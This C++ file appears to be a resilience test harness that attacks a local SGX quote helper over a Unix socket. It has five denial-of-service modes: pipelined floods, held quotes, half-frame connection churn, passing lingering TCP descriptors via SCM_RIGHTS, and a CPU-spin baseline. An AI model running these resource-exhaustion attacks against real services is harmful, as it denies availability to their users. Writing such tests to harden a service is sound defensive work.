// SPDX-License-Identifier: Apache-2.0
// aesm_attack: clients of a quote helper that mean harm, one process. The helper is to answer others as if these were
// not there.
//   flood    CONNECTIONS on each of which 200 requests are under way all the time; REQUEST is the cheapest one
//   quotes   CONNECTIONS with a quote in flight each, renewed as soon as it is answered
//   churn    a ring of CONNECTIONS with the first 6 bytes of a frame each, replaced as fast as it can
//   linger   CONNECTIONS TCP sockets that take 2 s to close, passed along (SCM_RIGHTS) in bytes that are not read;
//   again
//            and again
//   spin     none of that: CONNECTIONS threads that only compute, to tell what is the machine's doing
// It says "attacking" when it has as many connections as it gets, and ends after SECONDS.
#include <arpa/inet.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

namespace {

using std::chrono::steady_clock;

constexpr std::size_t kPipelined = 200;  // requests
constexpr std::size_t kCheapestReply = 11;
constexpr int kLingers = 2;  // seconds

sockaddr_un server{};
steady_clock::time_point the_end;

bool goes_on() { return steady_clock::now() < the_end; }

void say_attacking() {
  static bool said = false;
  if (!std::exchange(said, true)) std::fprintf(stderr, "attacking\n");
}

// -1 where the socket's queue is full.
int connect_to_server() {
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&server), sizeof server) == 0) return fd;
  ::close(fd);
  return -1;
}

void say(int fd, std::string_view words) {
  [[maybe_unused]] auto sent = ::send(fd, words.data(), words.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
}

// Keeps so many connections open that `words` are said on; a reply is answered by `again`, or with a new connection.
template <class Again>
void keep(int connections, std::string_view words, Again again) {
  int poller = ::epoll_create1(0), open = 0;
  auto begin = steady_clock::now();
  std::vector<char> bytes(1 << 16);
  epoll_event events[256];
  while (goes_on()) {
    for (int fd = 0; open < connections && (fd = connect_to_server()) >= 0; ++open) {
      say(fd, words);
      epoll_event event{};
      event.events = EPOLLIN;
      event.data.fd = fd;
      ::epoll_ctl(poller, EPOLL_CTL_ADD, fd, &event);
    }
    if (open == connections || steady_clock::now() - begin > std::chrono::milliseconds(500)) say_attacking();
    int ready = ::epoll_wait(poller, events, std::size(events), open < connections ? 1 : 50);
    for (int i = 0; i < ready; ++i) {
      ssize_t size = ::recv(events[i].data.fd, bytes.data(), bytes.size(), MSG_DONTWAIT);
      if (size < 0 && errno == EAGAIN) continue;
      if (size > 0 && again(events[i].data.fd, static_cast<std::size_t>(size))) continue;
      ::close(events[i].data.fd);
      --open;
    }
  }
}

void flood(int connections, const std::string& request) {
  std::string many;
  for (std::size_t i = 0; i < kPipelined; ++i) many += request;
  keep(connections, many, [&](int fd, std::size_t size) {
    say(fd, std::string_view(many).substr(0, std::min(size / kCheapestReply, kPipelined) * request.size()));
    return true;
  });
}

void quotes(int connections, const std::string& request) {
  keep(connections, request, [](int, std::size_t) { return false; });
}

void churn(int connections, const std::string& request) {
  std::vector<int> ring(static_cast<std::size_t>(connections), -1);
  for (std::size_t i = 0; goes_on(); i = (i + 1) % ring.size()) {
    if (ring[i] >= 0) ::close(ring[i]);
    while ((ring[i] = connect_to_server()) < 0 && goes_on()) ::usleep(200);
    say(ring[i], std::string_view(request).substr(0, 6));
    if (i + 1 == ring.size()) say_attacking();
  }
}

// A TCP connection whose peer takes nothing more, so that its last close waits.
int lingering(const sockaddr_in& to) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0), small = 4096;
  ::setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
  ::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to);
  std::vector<char> bytes(1 << 16);
  while (::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL | MSG_DONTWAIT) > 0) {
  }
  linger waits{1, kLingers};
  ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &waits, sizeof waits);
  return fd;
}

bool pass_along(int to, int fd, const std::string& request) {
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof fd)]{};
  iovec bytes{const_cast<char*>(request.data()), request.size()};
  msghdr message{};
  message.msg_iov = &bytes;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof control;
  cmsghdr* part = CMSG_FIRSTHDR(&message);
  part->cmsg_level = SOL_SOCKET;
  part->cmsg_type = SCM_RIGHTS;
  part->cmsg_len = CMSG_LEN(sizeof fd);
  std::memcpy(CMSG_DATA(part), &fd, sizeof fd);
  return ::sendmsg(to, &message, MSG_NOSIGNAL | MSG_DONTWAIT) > 0;
}

void linger_on(int sockets, const std::string& request) {
  int listener = ::socket(AF_INET, SOCK_STREAM, 0), small = 4096;
  ::setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t size = sizeof address;
  if (::bind(listener, reinterpret_cast<sockaddr*>(&address), size) != 0 || ::listen(listener, 4096) != 0 ||
      ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &size) != 0)
    return std::perror("a TCP socket for the descriptors that linger");
  std::string many;
  for (std::size_t i = 0; i < 1200; ++i) many += request;
  int passed = 0, refused = 0;
  while (goes_on()) {
    int fd = connect_to_server();
    if (fd < 0) continue;
    say(fd, many);  // the replies are not taken, so what comes after them is not read for a while
    for (int i = 0; i < sockets && goes_on(); ++i) {
      int one = lingering(address);
      bool taken = pass_along(fd, one, request);
      ++(taken ? passed : refused);
      linger at_once{1, 0};
      if (!taken) ::setsockopt(one, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
      ::close(one);
      if (passed + refused >= sockets) say_attacking();
    }
    ::close(fd);
  }
  std::fprintf(stderr, "%d descriptors passed along, %d not taken\n", passed, refused);
}

void spin(int threads) {
  say_attacking();
  auto compute = [] {
    while (goes_on()) {
    }
  };
  std::vector<std::thread> others;
  for (int i = 1; i < threads; ++i) others.emplace_back(compute);
  compute();
  for (std::thread& other : others) other.join();
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6)
    return std::fprintf(stderr, "usage: %s flood|quotes|churn|linger|spin SOCKET CONNECTIONS SECONDS REQUEST\n",
                        argv[0]),
           1;
  std::string kind = argv[1], path = argv[2];
  server.sun_family = AF_UNIX;
  if (path.size() >= sizeof server.sun_path) return std::fprintf(stderr, "%s is too long\n", argv[2]), 1;
  std::memcpy(server.sun_path, path.data(), path.size());
  int connections = std::max(1, std::atoi(argv[3]));
  the_end = steady_clock::now() + std::chrono::seconds(std::atoi(argv[4]));
  std::ifstream in(argv[5], std::ios::binary);
  const std::string request(std::istreambuf_iterator<char>(in), {});
  if (request.empty()) return std::fprintf(stderr, "%s: no request in it\n", argv[5]), 1;
  if (kind == "flood") return flood(connections, request), 0;
  if (kind == "quotes") return quotes(connections, request), 0;
  if (kind == "churn") return churn(connections, request), 0;
  if (kind == "linger") return linger_on(connections, request), 0;
  if (kind == "spin") return spin(connections), 0;
  return std::fprintf(stderr, "%s: there is no such attack\n", argv[1]), 1;
}
